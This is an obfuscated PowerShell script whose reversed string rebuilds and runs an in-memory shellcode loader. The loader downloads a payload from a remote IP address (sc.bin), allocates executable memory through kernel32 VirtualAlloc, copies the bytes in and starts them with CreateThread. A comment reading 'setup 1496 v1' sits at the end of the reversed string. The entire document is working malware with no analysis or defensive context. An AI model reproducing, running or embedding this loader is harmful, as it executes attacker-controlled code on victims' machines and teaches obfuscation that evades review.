$smisz='
)0 ,0 ,0 ,m$ ,0 ,0(daerhTetaerC::k$
)htgneL.cs$ ,m$ ,0 ,cs$(ypoC::]lahsraM.secivreSporetnI.emitnuR.metsyS[
)04x0 ,0003x0 ,htgneL.cs$ ,0(collAlautriV::k$ = m$
)''nib.cs/71.311.0.302//:ptth''(ataDdaolnwoD.)tneilCbeW.teN tcejbO-weN( = cs$]][etyB[
urhTssaP- 23K emaN- edoc$ noitinifeDrebmeM- epyT-ddA = k$
@''
;)i rtPtnI ,c tniu ,p rtPtnI ,f rtPtnI ,s tniu ,a rtPtnI(daerhTetaerC rtPtnI nretxe citats cilbup ])"lld.23lenrek"(tropmIllD[
;)p tniu ,t tniu ,s tniu ,a rtPtnI(collAlautriV rtPtnI nretxe citats cilbup ])"lld.23lenrek"(tropmIllD[
''@ = edoc$
1v 6941 putes #'.ToCharArray(); [array]::Reverse($smisz); iex (-join $smisz)